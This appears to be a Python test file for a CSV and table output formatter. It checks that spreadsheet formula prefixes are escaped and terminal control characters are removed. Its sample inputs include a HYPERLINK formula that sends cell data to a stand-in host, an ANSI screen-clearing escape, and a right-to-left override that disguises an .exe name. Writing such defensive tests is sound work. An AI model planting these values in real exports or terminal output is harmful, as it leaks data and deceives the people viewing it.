"""`socialaudit sql` output is safe where it lands: no CSV cell starts a formula, no table cell drives the terminal."""

from __future__ import annotations

import csv
import io

from flows.commands.sql import format_rows

HOSTILE = (
    '=HYPERLINK("http://x.example/?"&A1,"Click")',
    "+1-2",
    "@SUM(A1)",
    "\tcmd",
    "\x1b[2J\x1b[31mred",
    "\u202etxt.exe",
)


def test_csv_cells_never_start_a_formula() -> None:
    text = format_rows(["display_name"], [(value,) for value in HOSTILE], "csv")
    cells = [row[0] for row in csv.reader(io.StringIO(text))][1:]
    assert len(cells) == len(HOSTILE)
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert cells[0] == "'" + HOSTILE[0]
    assert "\x1b" not in text and "\u202e" not in text


def test_table_cells_carry_no_control_characters() -> None:
    text = format_rows(["name"], [(value,) for value in HOSTILE] + [("two\nlines",)], "table")
    assert not [c for c in text if (ord(c) < 32 and c != "\n") or 0x7F <= ord(c) <= 0x9F or c == "\u202e"]
    assert "\\x1b[2J" in text and "two\\x0alines" in text
    assert len(text.splitlines()) == 2 + len(HOSTILE) + 1 + 1
